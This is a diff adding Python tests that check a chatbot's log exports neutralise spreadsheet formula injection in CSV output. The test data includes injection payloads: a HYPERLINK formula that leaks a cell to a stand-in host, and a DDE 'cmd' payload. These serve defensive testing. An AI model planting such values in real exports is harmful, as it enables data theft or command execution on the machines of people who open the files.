@@ -13,8 +13,9 @@ from pathlib import Path
 
 from adapters.http import create_app
 from bot.engine import Engine
+from bot.exports import csv_cells
 from bot.knowledge import Knowledge
-from bot.models import QueryRecord
+from bot.models import DecisionRecord, QueryRecord
 from bot.pseudonym import Pseudonymiser
 from bot.settings import Settings
 from bot.storage.memory import MemoryConversationStore
@@ -121,3 +122,67 @@ async def test_the_server_purges_at_start_up_by_its_clock_and_stops_at_shutdown(
         assert [t for t in asyncio.all_tasks() if "_purge_daily" in repr(t.get_coro())]
     assert left == ["old-364"]  # purged before the server took a request
     assert not [t for t in asyncio.all_tasks() if "_purge_daily" in repr(t.get_coro())]
+
+
+# CSV that a spreadsheet opens safely --------------------------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2", "@SUM(1)",
+            "\tcmd", "\r=1+1"]  # fmt: skip
+
+
+def typed(i: int, text: str, helped: bool = True) -> QueryRecord:
+    return QueryRecord(id=f"t{i}", time=dt.datetime(2026, 11, 2, 9, tzinfo=dt.UTC),
+                       channel="web", user="u_x", text=text, kind="question",
+                       topic="police" if helped else "unknown", confidence=0.5,
+                       helped=helped)  # fmt: skip
+
+
+def test_csv_cells_neutralise_formulas_and_write_booleans_as_json_does() -> None:
+    assert csv_cells(["=1+1", "+1", "-2", "@SUM(1)", "\tx", "\rx"]) == [
+        "'=1+1", "'+1", "'-2", "'@SUM(1)", "'\tx", "'\rx"]  # fmt: skip
+    assert csv_cells(["a=1", " =1", "", None, True, False, 0.5, 3]) == [
+        "a=1", " =1", "", "", "true", "false", "0.5", "3"]  # fmt: skip
+    assert csv_cells([dt.datetime(2026, 11, 2, 9, 30, tzinfo=dt.UTC)]) == ["2026-11-02T09:30:00Z"]
+
+
+def test_the_query_log_csv_neutralises_formulas_and_jsonl_keeps_them_exact(
+    tmp_path: Path,
+) -> None:
+    records = [typed(i, text) for i, text in enumerate(FORMULAS)]
+    records.append(typed(len(FORMULAS), "wifi code", helped=False))
+    asyncio.run(seed(tmp_path / "infoshare.db", *records))
+    env = {"INFOSHARE_PSEUDONYM_KEY": "test-pseudonym-key-0123"}
+    as_csv = infoshare("logs", "export", "--format", "csv", env=env, cwd=tmp_path)
+    assert as_csv.returncode == 0, as_csv.stderr
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(as_csv.stdout, newline=""))}
+    for i, text in enumerate(FORMULAS):  # (reading the output as text turns \r into \n)
+        assert rows[f"t{i}"]["text"] == "'" + text.replace("\r", "\n")
+    assert rows[f"t{len(FORMULAS)}"]["text"] == "wifi code"
+    # Booleans as in JSON lines: true and false, not Python's True and False.
+    assert {r["helped"] for r in rows.values()} == {"true", "false"}
+    assert "True" not in as_csv.stdout and "False" not in as_csv.stdout
+    as_jsonl = infoshare("logs", "export", env=env, cwd=tmp_path)
+    exact = {r["id"]: r for r in map(json.loads, as_jsonl.stdout.splitlines())}
+    assert [exact[f"t{i}"]["text"] for i in range(len(FORMULAS))] == FORMULAS
+    assert exact[f"t{len(FORMULAS)}"]["helped"] is False
+
+
+def test_the_decisions_csv_neutralises_formulas_too(tmp_path: Path) -> None:
+    async def record() -> None:
+        log = SqliteDecisionLog(tmp_path / "infoshare.db")
+        await log.record(DecisionRecord(id="D-1", time=dt.datetime(2026, 11, 2, tzinfo=dt.UTC),
+                                        channel="web", user="=cmd|' /C calc'!A0", topic="police",
+                                        answers=[("purpose", "-2")], outcome="@share",
+                                        knowledge_version="+v"))  # fmt: skip
+        await log.close()
+
+    asyncio.run(record())
+    env = {"INFOSHARE_PSEUDONYM_KEY": "test-pseudonym-key-0123"}
+    done = infoshare("decisions", "export", "--format", "csv", env=env, cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    [row] = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
+    assert row["user"] == "'=cmd|' /C calc'!A0" and row["outcome"] == "'@share"
+    assert row["knowledge_version"] == "'+v" and row["answers"] == "purpose=-2"
+    assert row["revises"] == "" and row["time"] == "2026-11-02T00:00:00Z"
+    exact = infoshare("decisions", "export", env=env, cwd=tmp_path)
+    assert json.loads(exact.stdout)["user"] == "=cmd|' /C calc'!A0"
